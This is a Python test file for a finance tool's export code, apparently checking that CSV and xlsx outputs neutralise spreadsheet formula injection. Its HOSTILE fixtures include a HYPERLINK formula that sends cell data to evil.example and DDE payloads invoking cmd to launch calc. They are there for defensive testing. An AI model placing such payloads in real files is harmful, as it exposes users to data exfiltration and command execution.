"""Files written for other programs never carry a formula: text starting with = + - @ tab or CR is written as
text (apostrophe in CSV, string cell in xlsx), while numbers stay numbers."""
from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tieout.addin.handlers.journal import journal_lines, write_journal
from tieout.addin.handlers.state import Txn
from tieout.server.canonical import write_matches
from tieout.server.formula_guard import TRIGGERS, csv_text
from tieout.server.matching.report import write_proposals
from tieout.server.records import MatchGroup, ProposedTransaction

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def test_csv_text_rule():
    for text in HOSTILE:
        assert csv_text(text) == "'" + text
    for number in ("-12.50", "+3", "0.95", "-1e5", "12"):
        assert csv_text(number) == number
    assert csv_text("Bank fee") == "Bank fee" and csv_text(Decimal("-1.5")) == Decimal("-1.5")


@given(st.text(max_size=30))
def test_no_written_text_starts_with_a_trigger_unless_it_is_a_number(text):
    out = csv_text(text)
    if out.startswith(TRIGGERS):
        Decimal(out)  # a number: raises if it is anything else


def test_journal_csv_and_xlsx_carry_no_formula(tmp_path):
    txns = [Txn(i, dt.date(2026, 10, 31), Decimal("-5.00"), "USD", text, text, "cash entry", "", "")
            for i, text in enumerate(HOSTILE, start=1)]
    csv_path, xlsx_path = write_journal(tmp_path, "Rec", journal_lines(txns, "1010", 3))
    with open(csv_path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    others = rows[1::2]
    assert [r["account"] for r in others] == ["'" + t for t in HOSTILE]
    assert all(r["memo"].startswith("'") for r in rows)
    assert all(r["credit"] == "5.00" for r in rows[::2])  # amounts stay plain numbers
    ws = load_workbook(xlsx_path).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert [ws.cell(row=r, column=2).value for r in range(3, 3 + 2 * len(HOSTILE), 2)] == list(HOSTILE)
    assert all(isinstance(ws.cell(row=r, column=4).value, (int, float)) for r in range(2, 2 + 2 * len(HOSTILE), 2))


def test_matches_suggestions_and_proposals_are_neutralised(tmp_path):
    hostile = HOSTILE[0]
    group = MatchGroup("M1", (hostile,), ("G1",), "=rule", Decimal("0.95"), reason=hostile)
    write_matches(tmp_path / "m.csv", [group])
    rows = list(csv.reader(open(tmp_path / "m.csv", newline="", encoding="utf-8")))
    assert rows[1] == ["M1", "bank", "'" + hostile, "'=rule", "0.95"]
    write_proposals(tmp_path / "p.csv", [ProposedTransaction(dt.date(2026, 1, 2), Decimal("-7.50"), "USD",
                                                             "=1+1", "@fee", "fee", "-B1", "bank_fee")])
    rows = list(csv.reader(open(tmp_path / "p.csv", newline="", encoding="utf-8")))
    assert rows[1] == ["2026-01-02", "-7.50", "USD", "'=1+1", "'@fee", "fee", "'-B1", "bank_fee"]
